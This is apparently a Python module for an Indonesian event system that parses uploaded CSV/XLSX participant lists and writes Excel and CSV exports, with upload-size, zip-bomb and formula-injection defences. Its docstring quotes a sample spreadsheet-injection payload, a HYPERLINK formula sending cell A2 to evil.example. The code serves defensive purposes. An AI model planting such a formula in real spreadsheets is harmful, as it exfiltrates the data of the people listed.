"""Read uploaded spreadsheets (.csv, .xlsx) the way organizers actually produce them, and
write every export (.xlsx, .csv) the way an office opens it.

Participant lists and survey answers come from Excel: "CSV UTF-8" exports with a BOM, ``;`` as
separator (Indonesian regional settings use the decimal comma) and CRLF; older exports in
Windows-1252; or the .xlsx itself, where NIPs may be numbers. This module turns any of these
into one shape — header keys and rows of strings with the spreadsheet's own row numbers — so
that the row validators (people, SKM) can speak about "baris 7" exactly as the organizer sees
it. It never guesses lost digits: a NIP that Excel stored as a float comes back in scientific
notation so the validator can explain the problem.

Writing (:func:`xlsx_bytes`, :func:`csv_bytes`) is the one home for exports, because every
export carries text that people typed (names, jabatan, titles): a name such as
``=HYPERLINK("http://evil.example/?d="&A2,"Klik")`` must stay a name, never become a live
formula (CWE-1236). XLSX text cells are written as explicit strings; CSV text cells starting
with ``= + - @``, a tab or a CR get a leading ``'`` (OWASP's advice for CSV injection).
"""

import contextlib
import csv
import io
import re
import unicodedata
import warnings
import zipfile
from collections.abc import Generator, Iterable, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any, Literal

import msgspec

_ZIP_MAGIC = b"PK\x03\x04"
_OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # legacy .xls (Excel 97-2003)
_CSV_EXTENSIONS = (".csv", ".txt", ".tsv")
_XLSX_EXTENSIONS = (".xlsx", ".xlsm")
_SEPARATORS = (";", ",", "\t")
_UNPACKED_RATIO = 100
"""An .xlsx may unpack to at most this many times the bytes actually uploaded. Real workbooks
unpack to 5-20x; a 77 KB upload of 50 MB of empty rows (650x) took 130 s of CPU to read
when the bound was 50x the *upload limit* (500 MB whatever the upload's size)."""
_UNPACKED_FLOOR = 1024 * 1024
"""... but a tiny workbook may always unpack to this much (its fixed parts alone are ~20 KB)."""
_UNPACKED_CAP = 100 * 1024 * 1024
"""... and no workbook to more than this, whatever its size."""
_BLANK_ROWS_ALLOWED = 1_000
"""Rows read, empty ones included, may exceed the data row limit by this much (blank rows
between blocks of data); past it reading stops, so empty rows cannot keep the reader busy."""
_MAX_EXACT_FLOAT = 10**15
"""Excel keeps 15 significant digits: integral floats below this are exact, above may not be."""


class TableRow(msgspec.Struct, frozen=True):
    """One non-empty data row.

    Attributes:
        row_number: The spreadsheet's own row number (the header is usually row 1, so the
            first data row is 2).
        values: Cell text by header key; every header key is present, ``""`` for empty cells.
    """

    row_number: int
    values: dict[str, str]

    def get(self, key: str) -> str:
        """Return the cell under ``key``, ``""`` when the column does not exist."""
        return self.values.get(key, "")


class Table(msgspec.Struct, frozen=True):
    """A parsed sheet.

    Attributes:
        headers: Normalized column keys (:func:`normalize_header`), in column order; a column
            without a header but with data is called ``kolom_<n>`` (1-based).
        labels: The header texts as written, same order (for messages: "kolom 'No. HP'").
        rows: Non-empty data rows.
    """

    headers: list[str]
    labels: list[str]
    rows: list[TableRow]


class TabularError(ValueError):
    """An uploaded table that cannot be read; ``str(exc)`` is an Indonesian message."""


class FileTooLarge(TabularError):
    """The upload exceeds the byte limit (HTTP 413)."""


class TooManyRows(TabularError):
    """The upload has more data rows than allowed (HTTP 413)."""


class UnsupportedFormat(TabularError):
    """Not a .csv or .xlsx file, or a damaged one (HTTP 400)."""


class EmptyFile(TabularError):
    """No header or no data rows (HTTP 400)."""


class InvalidHeader(TabularError):
    """The header row is unusable: a column name repeats (HTTP 400)."""


class MissingColumns(TabularError):
    """Required columns are absent (HTTP 400); ``missing`` names them as the user would."""

    def __init__(self, message: str, missing: list[str]) -> None:
        super().__init__(message)
        self.missing = missing


def normalize_header(label: str) -> str:
    """Make a header text into a key: lowercase, accents removed, non-alphanumerics to ``_``.

    ``"No. HP"`` -> ``"no_hp"``, ``" Unit Kerja "`` -> ``"unit_kerja"``, ``"E-mail"`` ->
    ``"e_mail"``.
    """
    text = unicodedata.normalize("NFKD", label.replace("\ufeff", ""))
    text = "".join(c for c in text if not unicodedata.combining(c)).lower()
    return re.sub(r"[^a-z0-9]+", "_", text).strip("_")


def read_table(
    data: bytes,
    filename: str,
    *,
    max_rows: int,
    max_bytes: int,
) -> Table:
    """Read the first sheet of an uploaded .csv or .xlsx into a :class:`Table`.

    The first non-empty row is the header. Fully empty rows are skipped but still counted,
    so row numbers match the spreadsheet. Cell text is stripped of surrounding whitespace.

    Args:
        data: The uploaded bytes.
        filename: The uploaded name; its extension picks the reader unless the content is
            clearly a zip (.xlsx) or a legacy .xls.
        max_rows: Largest number of non-empty data rows accepted.
        max_bytes: Largest upload accepted.

    Raises:
        FileTooLarge: more than ``max_bytes``, or an .xlsx that unpacks to more than
            :func:`max_unpacked` of its size.
        TooManyRows: more than ``max_rows`` data rows, or more than ``max_rows`` plus 1,000
            rows read in all (empty rows count: reading stops there).
        UnsupportedFormat: neither CSV nor XLSX, a legacy .xls, or a damaged file.
        EmptyFile: no header, or a header without data rows.
        InvalidHeader: two columns with the same name.
    """
    if len(data) > max_bytes:
        raise FileTooLarge(
            f"Berkas terlalu besar ({_size_text(len(data))}); batasnya {_size_text(max_bytes)}"
        )
    if not data.strip():
        raise EmptyFile("Berkas kosong")
    name = filename.lower().strip()
    if data.startswith(_OLE_MAGIC) or name.endswith(".xls"):
        raise UnsupportedFormat(
            "Format .xls (Excel 97-2003) tidak didukung; simpan ulang sebagai .xlsx atau CSV"
        )
    records: Generator[tuple[int, list[str]], None, None]
    if data.startswith(_ZIP_MAGIC):
        records = _xlsx_records(data, max_unpacked(len(data)))
    elif name.endswith(_XLSX_EXTENSIONS):
        raise UnsupportedFormat("Berkas .xlsx tidak dapat dibaca: isinya bukan berkas Excel")
    elif name.endswith(_CSV_EXTENSIONS):
        records = _csv_records(data)
    else:
        raise UnsupportedFormat("Format berkas tidak didukung; unggah berkas .xlsx atau .csv")
    # closing() releases the workbook at once when a limit stops the reading early.
    with contextlib.closing(records):
        return _build_table(records, max_rows)


def max_unpacked(upload_size: int) -> int:
    """How many bytes an .xlsx of ``upload_size`` bytes may unpack to (a ratio of the actual
    upload, with a floor for tiny files and an absolute cap)."""
    return min(max(upload_size * _UNPACKED_RATIO, _UNPACKED_FLOOR), _UNPACKED_CAP)


def _size_text(size: int) -> str:
    if size >= 1024 * 1024:
        return f"{size / (1024 * 1024):.1f} MB".replace(".", ",")
    if size >= 1024:
        return f"{size / 1024:.1f} KB".replace(".", ",")
    return f"{size} byte"


def _build_table(records: Iterable[tuple[int, list[str]]], max_rows: int) -> Table:
    labels: list[str] | None = None
    raw_rows: list[tuple[int, list[str]]] = []
    width = 0
    read_limit = max_rows + 1 + _BLANK_ROWS_ALLOWED  # the header, the data, some blank rows
    for read, (row_number, cells) in enumerate(records, start=1):
        if read > read_limit:
            raise TooManyRows(
                f"Berkas berisi lebih dari {read_limit} baris (baris kosong ikut dihitung); "
                "hapus baris kosong atau bagi berkasnya"
            )
        if not any(cells):
            continue
        if labels is None:
            labels = cells
            continue
        if len(raw_rows) >= max_rows:
            raise TooManyRows(f"Berkas berisi lebih dari {max_rows} baris data; bagi berkasnya")
        raw_rows.append((row_number, cells))
        width = max(width, _used_width(cells))
    if labels is None:
        raise EmptyFile("Berkas tidak berisi judul kolom maupun data")
    if not raw_rows:
        raise EmptyFile("Berkas hanya berisi judul kolom, tanpa baris data")

    width = max(width, _used_width(labels))
    labels = labels[:width] + [""] * (width - len(labels))
    headers: list[str] = []
    first_label: dict[str, str] = {}
    for index, label in enumerate(labels, start=1):
        key = normalize_header(label) or f"kolom_{index}"
        if key in first_label:
            raise InvalidHeader(
                f"Kolom '{label}' muncul lebih dari sekali (sama dengan '{first_label[key]}')"
            )
        first_label[key] = label
        headers.append(key)

    rows = [
        TableRow(
            row_number=row_number,
            values={key: (cells[i] if i < len(cells) else "") for i, key in enumerate(headers)},
        )
        for row_number, cells in raw_rows
    ]
    return Table(headers=headers, labels=labels, rows=rows)


def _used_width(cells: list[str]) -> int:
    for index in range(len(cells) - 1, -1, -1):
        if cells[index]:
            return index + 1
    return 0


def _clean(text: str) -> str:
    # str.strip() also removes the no-break spaces Excel users paste from the web.
    return text.replace("\ufeff", "").strip()


# --- CSV ------------------------------------------------------------------------------------


def _decode(data: bytes) -> str:
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        # Excel's "Unicode Text" export: UTF-16 with a BOM, tab-separated.
        try:
            return data.decode("utf-16")
        except UnicodeDecodeError as exc:
            raise UnsupportedFormat("Berkas CSV UTF-16 rusak") from exc
    for encoding in ("utf-8-sig", "cp1252"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    return data.decode("latin-1")


def _sniff_separator(text: str) -> str:
    header = _first_logical_line(text)
    counts = {sep: _count_outside_quotes(header, sep) for sep in _SEPARATORS}
    best = max(_SEPARATORS, key=lambda sep: counts[sep])  # ties keep the earlier: ';' first
    return best if counts[best] > 0 else ","


def _first_logical_line(text: str) -> str:
    # The header is the first line with content; a quoted header cell may span lines.
    in_quotes = False
    start = None
    for index, char in enumerate(text):
        if start is None:
            if char in "\r\n" or char.isspace():
                continue
            start = index
        if char == '"':
            in_quotes = not in_quotes
        elif char in "\r\n" and not in_quotes:
            return text[start:index]
    return text[start:] if start is not None else ""


def _count_outside_quotes(line: str, sep: str) -> int:
    count, in_quotes = 0, False
    for char in line:
        if char == '"':
            in_quotes = not in_quotes
        elif char == sep and not in_quotes:
            count += 1
    return count


def _csv_records(data: bytes) -> Generator[tuple[int, list[str]], None, None]:
    text = _decode(data).lstrip("\ufeff")
    separator = _sniff_separator(text)
    # csv.Error (e.g. a NUL byte) is raised while iterating; convert it at the source.
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=False)
    row_number = 0
    try:
        for cells in reader:
            row_number += 1
            yield row_number, [_clean(cell) for cell in cells]
    except csv.Error as exc:
        raise UnsupportedFormat(f"Berkas CSV tidak dapat dibaca di baris {row_number + 1}") from exc


# --- XLSX -----------------------------------------------------------------------------------


def _xlsx_records(data: bytes, limit: int) -> Generator[tuple[int, list[str]], None, None]:
    # Imported here: openpyxl is only needed when an .xlsx actually arrives.
    import openpyxl

    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            unpacked = sum(info.file_size for info in archive.infolist())
    except (zipfile.BadZipFile, OSError, ValueError) as exc:
        raise UnsupportedFormat("Berkas .xlsx rusak atau bukan berkas Excel") from exc
    if unpacked > limit:
        raise FileTooLarge("Isi berkas .xlsx terlalu besar setelah dibuka")

    try:
        with warnings.catch_warnings():
            # openpyxl warns about styles and extensions it ignores; none matter for values.
            warnings.simplefilter("ignore")
            workbook = openpyxl.load_workbook(
                io.BytesIO(data), read_only=True, data_only=True, keep_links=False
            )
    except Exception as exc:  # openpyxl raises many types for malformed files
        raise UnsupportedFormat("Berkas .xlsx rusak atau bukan berkas Excel") from exc
    try:
        if not workbook.worksheets:
            raise EmptyFile("Berkas .xlsx tidak berisi lembar kerja")
        sheet = workbook.worksheets[0]
        # The <dimension> tag some writers emit is wrong; trusting it would drop rows.
        sheet.reset_dimensions()
        rows = sheet.iter_rows(values_only=True)
        row_number = 0
        while True:
            try:
                with warnings.catch_warnings():
                    warnings.simplefilter("ignore")
                    values = next(rows)
            except StopIteration:
                break
            except Exception as exc:  # a damaged sheet fails while streaming
                raise UnsupportedFormat(
                    f"Berkas .xlsx tidak dapat dibaca di baris {row_number + 1}"
                ) from exc
            row_number += 1
            yield row_number, [_cell_text(value) for value in values]
    finally:
        workbook.close()


def _cell_text(value: Any) -> str:
    """Render a cell value as the text a user would type into a CSV."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if value.is_integer() and abs(value) < _MAX_EXACT_FLOAT:
            return str(int(value))
        # Large or fractional: 15 significant digits, as Excel itself shows it. A NIP stored
        # as a number therefore comes back as "1.98609082018111e+17", never as fake digits.
        return format(value, ".15g")
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, datetime):
        if value.time() == time(0, 0):
            return value.date().isoformat()
        return value.isoformat()
    if isinstance(value, date | time):
        return value.isoformat()
    return _clean(str(value))


# --- Writing --------------------------------------------------------------------------------

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MEDIA_TYPE = "text/csv"
"""Litestar appends ``; charset=utf-8`` to ``text/*`` itself."""

FileFormat = Literal["xlsx", "csv"]
"""The ``?format=`` of a report download other than JSON."""
CellKind = Literal["text", "integer", "decimal", "percent", "date"]
_NUMBER_FORMATS: dict[str, str] = {
    "integer": "0",
    "decimal": "#,##0.00",
    "percent": '0.00" %"',
    "date": "dd-mm-yyyy",
}
_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make Excel, LibreOffice or Sheets read a CSV cell as a formula."""


class Column(msgspec.Struct, frozen=True):
    """One column of an export.

    Attributes:
        title: The header text.
        width: Excel column width in characters.
        kind: How values are written: ``text`` always as a string (never a formula), numbers
            with an Excel number format (``percent`` takes values already in percent, e.g.
            ``33.33``), ``date`` as a real date shown ``dd-mm-yyyy``.
    """

    title: str
    width: float = 14
    kind: CellKind = "text"


class Sheet(msgspec.Struct, frozen=True):
    """One worksheet: a title block (the office's kop, the report's name), then a frozen,
    filterable header row and the data rows.

    Attributes:
        name: The sheet tab (at most 31 characters, Excel's limit).
        columns: The columns, in order.
        rows: Values per row, in column order; ``None`` is an empty cell.
        title: Lines above the header (kop text, report title, period); may be empty.
    """

    name: str
    columns: Sequence[Column]
    rows: Sequence[Sequence[Any]]
    title: Sequence[str] = ()


def csv_safe(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet reads as a formula (a leading ``'``)."""
    return "'" + text if text.startswith(_FORMULA_TRIGGERS) else text


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An .xlsx workbook with one sheet per :class:`Sheet`.

    Every text value is written as an explicit string cell, whatever it starts with; numbers
    and dates keep their type and get the column's number format; the header row is bold,
    frozen and carries an auto-filter over the data; column widths are set.
    """
    # Imported here: openpyxl is only needed when an export is asked for.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    title_font = Font(bold=True, size=12)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.name[:31])
        for index, column in enumerate(spec.columns, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = column.width
        header_row = len(spec.title) + (1 if spec.title else 0) + 1
        last = get_column_letter(max(len(spec.columns), 1))
        # Both must be set before the first row in write-only mode.
        sheet.freeze_panes = f"A{header_row + 1}"
        sheet.auto_filter.ref = f"A{header_row}:{last}{header_row + max(len(spec.rows), 1)}"
        for line in spec.title:
            sheet.append([_text_cell(WriteOnlyCell(sheet), line, title_font)])
        if spec.title:
            sheet.append([])
        sheet.append(
            [_text_cell(WriteOnlyCell(sheet), column.title, bold) for column in spec.columns]
        )
        for values in spec.rows:
            sheet.append(
                [
                    _typed_cell(WriteOnlyCell(sheet), column, value)
                    for column, value in zip(spec.columns, values, strict=False)
                ]
            )
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _text_cell(cell: Any, text: str, font: Any = None) -> Any:
    cell.value = text
    # openpyxl marks a value starting with "=" as a formula; a string cell is written as text.
    cell.data_type = "s"
    if font is not None:
        cell.font = font
    return cell


def _typed_cell(cell: Any, column: Column, value: Any) -> Any:
    if value is None or value == "":
        return cell
    if column.kind == "text" or isinstance(value, str):
        return _text_cell(cell, str(value))
    if isinstance(value, datetime):
        value = value.replace(tzinfo=None)
    cell.value = value
    cell.number_format = _NUMBER_FORMATS[column.kind]
    return cell


def csv_bytes(
    columns: Sequence[Column] | Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    separator: str = ";",
) -> bytes:
    """A CSV that Excel opens in columns in an Indonesian locale: ``;``-separated, UTF-8 with
    a BOM, CRLF, decimal comma, dates ``DD-MM-YYYY``; text cells are :func:`csv_safe`.

    Args:
        columns: The columns (or plain header names, then every cell is treated by its type).
        rows: Values per row, in column order; ``None`` is an empty cell.
        separator: ``;`` for people; ``,`` only for machines that insist on it.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=separator, lineterminator="\r\n")
    titles = [c.title if isinstance(c, Column) else c for c in columns]
    writer.writerow([csv_safe(title) for title in titles])
    decimal_comma = separator != ","
    for values in rows:
        writer.writerow([_csv_value(value, decimal_comma) for value in values])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _csv_value(value: Any, decimal_comma: bool) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Ya" if value else "Tidak"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float | Decimal):
        text = format(value, "f") if isinstance(value, Decimal) else repr(value)
        return text.replace(".", ",") if decimal_comma else text
    if isinstance(value, datetime):
        return value.strftime("%d-%m-%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d-%m-%Y")
    return csv_safe(str(value))


def write_xlsx(title: str, header: list[str], rows: Iterable[list[Any]]) -> bytes:
    """A one-sheet workbook of text columns (the class-account slips): :func:`xlsx_bytes`, so
    an 18-digit NIP stays text and nothing is ever a formula."""
    columns = [Column(name, width=max(14.0, len(name) + 4.0)) for name in header]
    return xlsx_bytes([Sheet(name=title, columns=columns, rows=[list(r) for r in rows])])
